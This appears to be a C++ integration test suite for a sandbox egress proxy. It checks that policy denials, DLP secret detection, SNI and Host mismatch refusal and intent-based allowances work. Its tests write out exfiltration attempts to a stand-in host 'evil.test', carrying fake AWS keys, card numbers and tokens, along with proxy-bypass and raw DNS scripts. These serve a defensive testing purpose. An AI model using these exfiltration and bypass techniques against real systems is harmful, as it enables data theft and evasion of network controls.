// Egress end to end (issue 12): a real esbd (which starts esb-proxy), real crun containers with
// a network policy, and the local upstream of egress/upstream.py standing in for the internet:
// esbd maps every test name to it with --egress-resolve and trusts its root with
// --egress-upstream-ca. Each attack test performs the attack from inside a sandbox and asserts
// that it fails, that the upstream never received it (its record of every byte), and that the
// audit log has the row.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <functional>
#include <map>
#include <sstream>
#include <thread>

#include "common/shell_quote.h"
#include "integration/daemon.h"
#include "integration/egress/egress_rows.h"
#include "integration/egress/upstream.h"

namespace esb::testing {
namespace {
namespace json = boost::json;

const std::vector<std::string> kNames = {"git.test",        "pypi.test", "echo.test",
                                         "weather.example", "evil.test", "denied.test"};

// Planted secrets (never real ones): a Luhn-valid card number, an AWS key pair (id + secret
// with its context word) and a GitHub token.
constexpr char kCard[] = "4539781246053059";
constexpr char kAwsKeyId[] = "AKIAZ7Q4MXR2VN6LPT3K";
constexpr char kAwsSecret[] = "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";
constexpr char kGithubToken[] = "ghp_R8wJ2kLm9QzX4vT7bN1cY6pA3sD5fG0hK2jE";

// A field of an egress audit row: top level or under "egress".
const json::value* Field(const json::object& row, const char* key) {
  if (const json::value* e = row.if_contains("egress"); e && e->is_object())
    if (const json::value* v = e->as_object().if_contains(key)) return v;
  return row.if_contains(key);
}
std::string Str(const json::object& row, const char* key) {
  const json::value* v = Field(row, key);
  return v && v->is_string() ? std::string(v->as_string()) : "";
}
std::vector<std::string> Rules(const json::object& row) {
  std::vector<std::string> out;
  if (const json::value* v = Field(row, "rule_ids"); v && v->is_array())
    for (const json::value& r : v->as_array())
      if (r.is_string()) out.emplace_back(r.as_string());
  return out;
}
bool HasRulePrefix(const json::object& row, const std::string& prefix) {
  for (const std::string& r : Rules(row))
    if (r.rfind(prefix, 0) == 0) return true;
  return false;
}

class EgressE2eTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (!Daemon::SkipReason().empty()) return;
    upstream_ = new EgressUpstream();
    setup_error_ = upstream_->Start(kNames);
    if (!setup_error_.empty()) return;
    setup_error_ = upstream_->AddGitRepo(
        "demo", {{"README.md", "seed 004 demo\n"},
                 {"analyze.py", "import esbtestpkg\nprint('analysis:', esbtestpkg.hello())\n"}});
    if (!setup_error_.empty()) return;
    daemon_ = new Daemon();
    Daemon::Options o;
    o.config_json = json::serialize(json::object{
        {"intents", json::object{{"check-weather",
                                  json::object{{"allow", json::array{"weather.example"}}}}}}});
    o.extra_args = upstream_->ResolveArgs(kNames);
    o.extra_args.push_back("--egress-upstream-ca");
    o.extra_args.push_back(upstream_->root_ca());
    if (!daemon_->Start(o)) {
      setup_error_ = "esbd did not start with the egress flags";
      return;
    }
    HttpResult h = daemon_->Call("GET", "/healthz");
    const json::value* egress = h.obj().if_contains("egress");
    if (!egress || !egress->is_object())
      setup_error_ = "GET /healthz has no \"egress\" section: " + h.body;
  }
  static void TearDownTestSuite() {
    if (daemon_) daemon_->StopAndCleanup();
    delete daemon_;
    daemon_ = nullptr;
    delete upstream_;
    upstream_ = nullptr;
  }
  void SetUp() override {
    std::string why = Daemon::SkipReason();
    if (!why.empty()) GTEST_SKIP() << why;
    ASSERT_EQ(setup_error_, "") << (daemon_ ? daemon_->Log() : "");
  }

  // An environment whose network is `policy`.
  std::string Governed(const json::object& policy) {
    HttpResult r =
        daemon_->Call("POST", "/environments",
                      json::object{{"network", policy}, {"memory_mb", 512}, {"ttl_seconds", 600}});
    EXPECT_EQ(r.status, 201) << r.body << "\n" << daemon_->Log();
    return r.str("environment_id");
  }
  static json::object Allow(std::initializer_list<const char*> hosts) {
    json::array allow;
    for (const char* h : hosts) allow.emplace_back(h);
    return json::object{{"mode", "allowlist"}, {"allow", allow}};
  }
  HttpResult Sh(const std::string& env, const std::string& cmd, int timeout_s = 60) {
    return daemon_->Exec(env, cmd, timeout_s);
  }
  void Write(const std::string& env, const std::string& path, const std::string& content) {
    HttpResult r = daemon_->Call("POST", "/environments/" + env + "/files/write",
                                 json::object{{"path", path}, {"content", content}});
    ASSERT_EQ(r.status, 200) << r.body;
  }
  std::vector<json::object> Rows(
      const std::string& env, const EgressRowsReady& ready = [](const auto&) { return true; }) {
    return WaitForEgressRows(*daemon_, env, ready);
  }
  // Rows whose path is `path` (or, with `prefix`, starts with it).
  std::vector<json::object> RowsWithPath(const std::string& env, const std::string& path,
                                         bool prefix = false) {
    auto match = [&](const std::vector<json::object>& rows) {
      std::vector<json::object> out;
      for (const json::object& row : rows) {
        std::string p = Str(row, "path");
        if (p == path || (prefix && p.rfind(path, 0) == 0)) out.push_back(row);
      }
      return out;
    };
    return match(Rows(env, [&](const auto& rows) { return !match(rows).empty(); }));
  }
  std::vector<json::object> RowsWithHost(const std::string& env, const std::string& host,
                                         size_t at_least = 1) {
    auto match = [&](const std::vector<json::object>& rows) {
      std::vector<json::object> out;
      for (const json::object& row : rows)
        if (Str(row, "host") == host) out.push_back(row);
      return out;
    };
    return match(Rows(env, [&](const auto& rows) { return match(rows).size() >= at_least; }));
  }
  // Whether the upstream ever answered a request whose path contains `marker`.
  static bool UpstreamSaw(const std::string& marker) {
    for (const json::object& row : upstream_->Requests())
      if (std::string(row.at("path").as_string()).find(marker) != std::string::npos) return true;
    return upstream_->Received().find(marker) != std::string::npos;
  }
  // True if the upstream served a request whose path starts with `prefix` (a marker inside a
  // query string, e.g. a redirect's target, does not count).
  static bool UpstreamServedPath(const std::string& prefix) {
    for (const json::object& row : upstream_->Requests())
      if (std::string(row.at("path").as_string()).rfind(prefix, 0) == 0) return true;
    return false;
  }
  static std::string Port() { return std::to_string(upstream_->port()); }

  static Daemon* daemon_;
  static EgressUpstream* upstream_;
  static std::string setup_error_;
};
Daemon* EgressE2eTest::daemon_ = nullptr;
EgressUpstream* EgressE2eTest::upstream_ = nullptr;
std::string EgressE2eTest::setup_error_;

// Seed 004's own plan: clone a repository, install a package, run a script, all through the
// proxy (the sandbox has no other way out) and all audited.
TEST_F(EgressE2eTest, Seed004PlanClonesInstallsAndRunsThroughTheProxy) {
  std::string env = Governed(Allow({"git.test", "pypi.test"}));
  ASSERT_FALSE(env.empty());
  HttpResult r = Sh(env,
                    "set -e; cd /workspace; git clone -q https://git.test/demo.git; "
                    "pip install -q --disable-pip-version-check --retries 0 --index-url "
                    "https://pypi.test/simple/ esbtestpkg; "
                    "python3 demo/analyze.py",
                    180);
  ASSERT_EQ(r.num("exit_code"), 0) << r.body;
  EXPECT_EQ(r.str("stdout"), "analysis: hello from esbtestpkg 1.0 with dep 1.1\n") << r.body;

  // The upstream saw verified TLS with the real names (the proxy re-originated it).
  bool git_sni = false, index_sni = false;
  for (const json::object& row : upstream_->Requests()) {
    std::string path(row.at("path").as_string());
    const json::value& sni = row.at("sni");
    if (path == "/demo.git/git-upload-pack" && sni.is_string() && sni.as_string() == "git.test")
      git_sni = true;
    if (path == "/simple/esbtestdep/" && sni.is_string() && sni.as_string() == "pypi.test")
      index_sni = true;
  }
  EXPECT_TRUE(git_sni);
  EXPECT_TRUE(index_sni);

  // One allowed row per request, with the rule that allowed it.
  for (const char* path : {"/demo.git/info/refs", "/demo.git/git-upload-pack",
                           "/simple/esbtestpkg/", "/files/esbtestpkg-1.0-py3-none-any.whl",
                           "/simple/esbtestdep/", "/files/esbtestdep-1.1-py3-none-any.whl"}) {
    std::vector<json::object> rows = RowsWithPath(env, path, /*prefix=*/true);
    ASSERT_FALSE(rows.empty()) << "no audit row for " << path;
    EXPECT_EQ(Str(rows[0], "decision"), "allowed") << json::serialize(rows[0]);
    EXPECT_TRUE(HasRulePrefix(rows[0], "allow:")) << json::serialize(rows[0]);
    EXPECT_EQ(Str(rows[0], "host"), path[1] == 'd' ? "git.test" : "pypi.test");
  }
}

TEST_F(EgressE2eTest, DeniedDomainIsRefusedWith403AndTheRule) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  HttpResult r = Sh(env,
                    "curl -sS -D /tmp/h -o /tmp/b -w '%{http_code}' http://denied.test/"
                    "denied-http-marker; echo; grep -i '^x-esb-blocked' /tmp/h; cat /tmp/b; echo; "
                    "curl -sS -o /dev/null https://denied.test/denied-https-marker 2>&1; "
                    "echo rc=$?");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out.rfind("403\n", 0), 0u) << out;
  EXPECT_NE(out.find("X-Esb-Blocked: not_allowed"), std::string::npos) << out;
  EXPECT_NE(out.find("denied.test"), std::string::npos) << out;  // the JSON body says what
  EXPECT_NE(out.find("rc=56"), std::string::npos) << out;        // CONNECT answered 403
  EXPECT_NE(out.find("403"), out.rfind("403")) << out;
  EXPECT_FALSE(UpstreamSaw("denied-http-marker"));
  EXPECT_FALSE(UpstreamSaw("denied-https-marker"));
  std::vector<json::object> rows = RowsWithHost(env, "denied.test", 2);
  ASSERT_GE(rows.size(), 2u);
  for (const json::object& row : rows) {
    EXPECT_EQ(Str(row, "decision"), "blocked") << json::serialize(row);
    EXPECT_TRUE(HasRulePrefix(row, "not_allowed")) << json::serialize(row);
  }
}

// Attack: exfiltrate through the DNS name in mode open (any name allowed): an AWS key id as a
// subdomain of a plain-HTTP request and a card number split into the labels of a CONNECT
// target. Both refused by DLP before the name is resolved; the audit rows keep neither.
TEST_F(EgressE2eTest, SecretsInHostNamesAreRefusedBeforeResolutionInModeOpen) {
  std::string env = Governed(json::object{{"mode", "open"}});
  ASSERT_FALSE(env.empty());
  HttpResult r = Sh(env,
                    "curl -sS -D /tmp/h -o /dev/null -w '%{http_code}\n' "
                    "http://akiaz7q4mxr2vn6lpt3k.evil.test/dns-exfil-marker; "
                    "grep -i '^x-esb-blocked' /tmp/h; "
                    "curl -sS -o /dev/null https://4539.7812.4605.3059.evil.test/tls-exfil-marker "
                    "2>&1; echo rc=$?");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out.rfind("403\n", 0), 0u) << out;
  EXPECT_NE(out.find("X-Esb-Blocked: dlp:aws_access_key"), std::string::npos) << out;
  EXPECT_NE(out.find("rc=56"), std::string::npos) << out;  // CONNECT answered 403
  EXPECT_FALSE(UpstreamSaw("exfil-marker"));
  std::vector<json::object> rows = Rows(env, [](const auto& rows) { return rows.size() >= 2; });
  ASSERT_GE(rows.size(), 2u);
  bool key = false, card = false;
  for (const json::object& row : rows) {
    std::string text = json::serialize(row);
    for (char& c : text) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
    EXPECT_EQ(text.find("akiaz7q4mxr2vn6lpt3k"), std::string::npos) << text;
    EXPECT_EQ(text.find("4539.7812"), std::string::npos) << text;
    EXPECT_EQ(Str(row, "decision"), "blocked") << text;
    key |= Str(row, "host") == "[REDACTED:dlp:aws_access_key]";
    card |= Str(row, "host") == "[REDACTED:dlp:credit_card]";
  }
  EXPECT_TRUE(key);
  EXPECT_TRUE(card);
}

TEST_F(EgressE2eTest, IpLiteralIsRefused) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  // Through the proxy explicitly (NO_PROXY would otherwise send 127.0.0.1 nowhere).
  HttpResult r =
      Sh(env,
         "curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' -x \"$HTTP_PROXY\" "
         "http://127.0.0.1:" +
             Port() +
             "/ip-literal-marker; "
             "curl -sS -o /dev/null --noproxy '' -x \"$HTTP_PROXY\" "
             "https://127.0.0.1:" +
             Port() +
             "/ip-literal-tls-marker 2>&1; echo rc=$?; "
             "curl -sS -o /dev/null -w '%{http_code}\\n' http://203.0.113.7/ip-public-marker");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out.rfind("403\n", 0), 0u) << out;
  EXPECT_NE(out.find("rc=56"), std::string::npos) << out;
  EXPECT_NE(out.find("\n403\n"), std::string::npos) << out;
  EXPECT_FALSE(UpstreamSaw("ip-literal"));
  EXPECT_GE(RowsWithHost(env, "127.0.0.1").size(), 1u);
}

// A name the policy allows but that resolves to a loopback address (no --egress-resolve
// mapping for it): the proxy resolves it itself and refuses the address.
TEST_F(EgressE2eTest, PrivateAddressIsRefusedEvenWhenTheNameIsAllowed) {
  std::string env = Governed(Allow({"localhost", "echo.test"}));
  ASSERT_FALSE(env.empty());
  HttpResult r = Sh(env,
                    "curl -sS -D /tmp/h -o /dev/null -w '%{http_code}\\n' --noproxy '' -x "
                    "\"$HTTP_PROXY\" http://localhost:" +
                        Port() + "/private-marker; grep -ci '^x-esb-blocked' /tmp/h");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out, "403\n1\n") << r.body;
  EXPECT_FALSE(UpstreamSaw("private-marker"));
  std::vector<json::object> rows = RowsWithHost(env, "localhost");
  ASSERT_FALSE(rows.empty());
  EXPECT_EQ(Str(rows[0], "decision"), "blocked") << json::serialize(rows[0]);
}

// Each redirect hop is a new request the proxy decides on.
TEST_F(EgressE2eTest, RedirectToADeniedHostIsRefused) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  HttpResult r = Sh(env,
                    "curl -sS -L -o /dev/null -w '%{http_code}\\n' "
                    "'http://echo.test/redirect?to=http://evil.test/redirect-stolen-http'; "
                    "curl -sS -L -o /dev/null "
                    "'https://echo.test/redirect?to=https://evil.test/redirect-stolen-tls' 2>&1; "
                    "echo rc=$?");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out.rfind("403\n", 0), 0u) << out;
  EXPECT_NE(out.find("rc=56"), std::string::npos) << out;
  EXPECT_TRUE(UpstreamSaw("/redirect?to=https://evil.test"));  // the first hop went
  // The first hop's query names the target; the target itself must never be requested.
  EXPECT_FALSE(UpstreamServedPath("/redirect-stolen"));
  EXPECT_GE(RowsWithHost(env, "evil.test", 2).size(), 2u);
}

TEST_F(EgressE2eTest, HostHeaderOrSniDifferentFromTheConnectTargetIsRefused) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  Write(env, "sni.py",
        "import os, socket, ssl, urllib.parse\n"
        "p = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
        "s = socket.create_connection((p.hostname, p.port), timeout=10)\n"
        "s.sendall(b'CONNECT echo.test:443 HTTP/1.1\\r\\nHost: echo.test:443\\r\\n\\r\\n')\n"
        "head = b''\n"
        "while b'\\r\\n\\r\\n' not in head:\n"
        "    head += s.recv(1)\n"
        "print(head.split(b'\\r\\n')[0].decode())\n"
        "try:\n"
        "    t = ssl.create_default_context().wrap_socket(s, server_hostname='evil.test')\n"
        "    t.sendall(b'GET /sni-mismatch-marker HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
        "    print('answer', t.recv(200)[:12])\n"
        "except (OSError, ssl.SSLError) as e:\n"
        "    print('refused', type(e).__name__)\n");
  HttpResult r = Sh(env,
                    "curl -sS -o /dev/null -w '%{http_code}\\n' -H 'Host: evil.test' "
                    "https://echo.test/host-mismatch-marker; python3 sni.py");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out.rfind("421\n", 0), 0u) << r.body;
  // The proxy refuses the handshake, or completes it and answers 421 itself.
  EXPECT_TRUE(out.find("refused") != std::string::npos ||
              out.find("answer b'HTTP/1.1 421") != std::string::npos)
      << r.body;
  EXPECT_FALSE(UpstreamSaw("host-mismatch-marker"));
  EXPECT_FALSE(UpstreamSaw("sni-mismatch-marker"));
  bool sni_row = false;
  for (const json::object& row : Rows(env, [](const auto& rows) {
         for (const json::object& row : rows)
           if (HasRulePrefix(row, "tls:sni_mismatch")) return true;
         return false;
       }))
    sni_row = sni_row || HasRulePrefix(row, "tls:sni_mismatch");
  EXPECT_TRUE(sni_row);
}

// Ignoring the proxy variables gets nowhere: the sandbox has loopback only.
TEST_F(EgressE2eTest, DirectConnectionBypassingTheProxyFails) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  ShellResult host_ip = RunShell("ip -4 route get 192.0.2.1 | grep -o 'src [0-9.]*' | cut -c5-");
  std::string ip = host_ip.output.substr(0, host_ip.output.find('\n'));
  Write(env, "direct.py",
        "import errno, socket, sys\n"
        "for host in sys.argv[1:]:\n"
        "    try:\n"
        "        socket.create_connection((host, " +
            Port() +
            "), timeout=5).close()\n"
            "        print(host, 'connected')\n"
            "    except OSError as e:\n"
            "        print(host, errno.errorcode.get(e.errno, str(e)))\n");
  HttpResult r = Sh(env,
                    "python3 -c 'import socket; print([n for _, n in socket.if_nameindex()])'; "
                    "curl -sS --noproxy '*' --max-time 5 "
                    "https://echo.test/bypass-name-marker 2>&1; echo rc=$?; "
                    "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:" +
                        Port() + "/bypass-loopback-marker 2>&1; echo rc=$?; python3 direct.py " +
                        ip + " 192.0.2.1");
  const std::string out = r.str("stdout");
  EXPECT_EQ(out.rfind("['lo']\n", 0), 0u) << out;           // the only interface
  EXPECT_NE(out.find("rc=6\n"), std::string::npos) << out;  // no name resolution
  EXPECT_NE(out.find("rc=7\n"), std::string::npos) << out;  // the netns's own loopback
  EXPECT_EQ(out.find("connected"), std::string::npos) << out;
  if (!ip.empty()) {
    EXPECT_NE(out.find(ip + " ENETUNREACH"), std::string::npos) << out;
  }
  EXPECT_NE(out.find("192.0.2.1 ENETUNREACH"), std::string::npos) << out;
  EXPECT_FALSE(UpstreamSaw("bypass-"));
}

TEST_F(EgressE2eTest, DnsAndUdpAttemptsFail) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  Write(env, "udp.py",
        "import errno, socket\n"
        "for name in ('echo.test', 'example.com'):\n"
        "    try:\n"
        "        print(name, socket.getaddrinfo(name, 443))\n"
        "    except socket.gaierror:\n"
        "        print(name, 'unresolved')\n"
        "servers = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\n"
        "for ip in servers + ['8.8.8.8', '192.0.2.53']:\n"
        "    if ip.startswith('127.'): continue  # the netns's own loopback: nothing leaves\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    try:\n"
        "        s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00', (ip, "
        "53))\n"
        "        print(ip, 'sent')\n"
        "    except OSError as e:\n"
        "        print(ip, errno.errorcode.get(e.errno, str(e)))\n");
  HttpResult r = Sh(env, "python3 udp.py");
  const std::string out = r.str("stdout");
  EXPECT_NE(out.find("echo.test unresolved"), std::string::npos) << r.body;
  EXPECT_NE(out.find("example.com unresolved"), std::string::npos) << r.body;
  EXPECT_NE(out.find("8.8.8.8 ENETUNREACH"), std::string::npos) << r.body;
  EXPECT_NE(out.find("192.0.2.53 ENETUNREACH"), std::string::npos) << r.body;
  EXPECT_EQ(out.find(" sent"), std::string::npos) << r.body;
}

TEST_F(EgressE2eTest, IntentAllowsADomainOnlyWhileActiveAndNotAfterItsTtl) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  const std::string curl = "curl -sS -o /dev/null -w '%{http_code}\\n' http://weather.example/";
  EXPECT_EQ(Sh(env, curl + "intent-before").str("stdout"), "403\n");

  auto start = std::chrono::steady_clock::now();
  HttpResult a = daemon_->Call("POST", "/environments/" + env + "/intents",
                               json::object{{"intent", "check-weather"}, {"ttl_seconds", 3}});
  ASSERT_TRUE(a.status == 200 || a.status == 201) << a.body;
  HttpResult during = Sh(env, curl + "intent-during");
  ASSERT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(3))
      << "too slow to test a 3 s TTL";
  EXPECT_EQ(during.str("stdout"), "200\n") << during.body;
  HttpResult listed = daemon_->Call("GET", "/environments/" + env + "/intents");
  EXPECT_NE(listed.body.find("check-weather"), std::string::npos) << listed.body;

  std::this_thread::sleep_until(start + std::chrono::milliseconds(3500));
  EXPECT_EQ(Sh(env, curl + "intent-after-ttl").str("stdout"), "403\n");

  // Deactivated explicitly: refused at once.
  a = daemon_->Call("POST", "/environments/" + env + "/intents",
                    json::object{{"intent", "check-weather"}, {"ttl_seconds", 600}});
  ASSERT_TRUE(a.status == 200 || a.status == 201) << a.body;
  EXPECT_EQ(Sh(env, curl + "intent-again").str("stdout"), "200\n");
  HttpResult d = daemon_->Call("DELETE", "/environments/" + env + "/intents/check-weather");
  EXPECT_TRUE(d.status == 200 || d.status == 204) << d.body;
  EXPECT_EQ(Sh(env, curl + "intent-after-delete").str("stdout"), "403\n");

  // For one call only ("intent" in the execute body).
  HttpResult one = daemon_->Call(
      "POST", "/environments/" + env + "/execute",
      json::object{{"command", curl + "intent-per-call"}, {"intent", "check-weather"}});
  EXPECT_EQ(one.str("stdout"), "200\n") << one.body;
  EXPECT_EQ(Sh(env, curl + "intent-after-call").str("stdout"), "403\n");

  EXPECT_TRUE(UpstreamSaw("intent-during"));
  EXPECT_TRUE(UpstreamSaw("intent-again"));
  EXPECT_TRUE(UpstreamSaw("intent-per-call"));
  for (const char* never :
       {"intent-before", "intent-after-ttl", "intent-after-delete", "intent-after-call"})
    EXPECT_FALSE(UpstreamSaw(never)) << never;
  std::vector<json::object> rows = RowsWithPath(env, "/intent-during");
  ASSERT_FALSE(rows.empty());
  EXPECT_TRUE(HasRulePrefix(rows[0], "intent:check-weather")) << json::serialize(rows[0]);
  rows = RowsWithPath(env, "/intent-after-ttl");
  ASSERT_FALSE(rows.empty());
  EXPECT_EQ(Str(rows[0], "decision"), "blocked") << json::serialize(rows[0]);
}

// A card number, an AWS key pair and a GitHub token planted in POST bodies, over HTTP and
// HTTPS, plain, gzip, JSON-escaped, URL-encoded, multipart and split across chunks: every one
// is blocked, the upstream provably received none of it, and each has one audit row with the
// rule and without the secret.
TEST_F(EgressE2eTest, PlantedSecretsInPostBodiesAreBlockedInEveryEncoding) {
  std::string env = Governed(Allow({"echo.test"}));
  ASSERT_FALSE(env.empty());
  std::string client;
  {
    ShellResult cat = RunShell("cat " + ShellQuote(std::string(ESB_SOURCE_DIR) +
                                                   "/tests/integration/egress/dlp_client.py"));
    ASSERT_EQ(cat.exit_code, 0) << cat.output;
    client = cat.output;
  }
  Write(env, "dlp_client.py", client);
  const std::string card_text = std::string("order for Jane, card ") + kCard + " exp 09/29";
  const std::string aws_text = std::string("[default]\naws_access_key_id = ") + kAwsKeyId +
                               "\naws_secret_access_key = " + kAwsSecret + "\n";
  const std::string gh_text = std::string("export GITHUB_TOKEN=") + kGithubToken + "\n";
  json::object cases{
      {"dlp-card", json::array{card_text, card_text.find(kCard)}},
      {"dlp-aws", json::array{aws_text, aws_text.find(kAwsKeyId)}},
      {"dlp-github", json::array{gh_text, gh_text.find(kGithubToken)}},
      {"clean", json::array{"just an ordinary note without secrets, order 12", 8}},
  };
  HttpResult r =
      Sh(env, "python3 dlp_client.py echo.test " + ShellQuote(json::serialize(cases)), 120);
  ASSERT_EQ(r.num("exit_code"), 0) << r.body;
  std::map<std::string, json::object> results;
  std::istringstream lines(r.str("stdout"));
  for (std::string line; std::getline(lines, line);) {
    boost::system::error_code ec;
    json::value v = json::parse(line, ec);
    ASSERT_FALSE(ec) << line;
    results[std::string(v.at("case").as_string())] = v.as_object();
  }
  ASSERT_EQ(results.size(), 4u * 6 * 2) << r.body;

  auto expected_rule = [](const std::string& c) -> std::vector<std::string> {
    if (c.rfind("dlp-card", 0) == 0) return {"dlp:credit_card"};
    if (c.rfind("dlp-aws", 0) == 0) return {"dlp:aws_access_key", "dlp:aws_secret_key"};
    return {"dlp:github_token"};
  };
  for (const auto& [name, res] : results) {
    const std::string blocked(res.at("blocked").as_string());
    if (name.rfind("clean", 0) == 0) {
      // The control: the same client and encodings without a secret get through.
      EXPECT_EQ(res.at("status").as_int64(), 200) << name << ": " << json::serialize(res);
      EXPECT_TRUE(UpstreamSaw("/" + name)) << name;
      continue;
    }
    EXPECT_EQ(res.at("status").as_int64(), 403) << name << ": " << json::serialize(res);
    std::vector<std::string> rules = expected_rule(name);
    EXPECT_NE(std::find(rules.begin(), rules.end(), blocked), rules.end())
        << name << ": X-Esb-Blocked " << blocked;
    EXPECT_FALSE(UpstreamSaw("/" + name)) << name;
  }
  // Not one planted byte arrived anywhere upstream.
  const std::string received = upstream_->Received();
  for (const char* secret : {kCard, kAwsKeyId, kAwsSecret, kGithubToken})
    EXPECT_EQ(received.find(secret), std::string::npos) << secret;

  for (const auto& [name, res] : results) {
    if (name.rfind("clean", 0) == 0) continue;
    std::vector<json::object> rows = RowsWithPath(env, "/" + name);
    ASSERT_EQ(rows.size(), 1u) << name;
    const json::object& row = rows[0];
    EXPECT_EQ(Str(row, "decision"), "blocked") << json::serialize(row);
    bool has_rule = false;
    for (const std::string& rule : expected_rule(name))
      has_rule = has_rule || HasRulePrefix(row, rule);
    EXPECT_TRUE(has_rule) << json::serialize(row);
    const std::string text = json::serialize(row);
    for (const char* secret : {kCard, kAwsKeyId, kAwsSecret, kGithubToken})
      EXPECT_EQ(text.find(secret), std::string::npos) << name << " row leaks " << secret;
  }
}

}  // namespace
}  // namespace esb::testing
